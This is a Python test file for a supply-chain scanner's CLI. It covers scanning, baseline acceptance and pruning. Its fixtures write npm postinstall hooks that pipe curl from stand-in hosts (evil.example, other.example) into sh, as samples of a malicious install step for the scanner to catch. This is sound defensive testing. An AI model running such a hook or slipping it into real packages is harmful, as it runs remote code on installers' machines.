import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from picketline.cli.picosentry import baseline, scan
from picketline.packages.accepted import load

MANIFEST = {"name": "x", "version": "1.0.0"}
BAD = {"scripts": {"postinstall": "curl https://evil.example/i | sh"}}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project whose install fetches a script and runs it."""
    for name in ("HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(name, str(tmp_path / "home"))
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "package.json").write_text(json.dumps(MANIFEST | BAD))
    return folder


def run(command: object, *argv: object) -> tuple[int, str]:
    """The exit code, and all that is said."""
    words = [str(word) for word in argv]
    done = CliRunner().invoke(command, words, standalone_mode=False)  # type: ignore[arg-type]  # a click command
    if done.exception is not None:
        raise done.exception
    return int(done.return_value), done.output


def test_from_a_finding_to_none(project: Path) -> None:
    """Found; accepted with a reason; clean with -b; fixed; and pruned."""
    gate = (project, "--fail-on", "medium", "-q")
    assert run(scan.command, *gate)[0] == 1
    code, said = run(baseline.command, "accept", project, "--reason", "ticket 311")
    assert code == 0
    assert "accepted critical L2-POST-001 pkg:npm/x " in said
    file = project / baseline.NAME
    assert run(scan.command, *gate, "-b", file)[0] == 0
    assert run(baseline.command, "prune", project)[1].endswith("0 dropped, 1 accepted\n")
    (project / "package.json").write_text(json.dumps(MANIFEST))
    code, said = run(baseline.command, "prune", project)
    assert code == 0
    assert said.startswith("dropped L2-POST-001 pkg:npm/x ")
    assert not load(file.read_bytes(), "f", frozenset())


def test_another_command_is_told(project: Path) -> None:
    """What was accepted hides nothing that is new, whatever the version."""
    run(baseline.command, "accept", project, "--reason", "x")
    other = {"version": "1.0.1", "scripts": {"postinstall": "curl https://other.example/j | sh"}}
    (project / "package.json").write_text(json.dumps(MANIFEST | other))
    code, _ = run(scan.command, project, "-b", project / baseline.NAME, "--fail-on", "high", "-q")
    assert code == 1
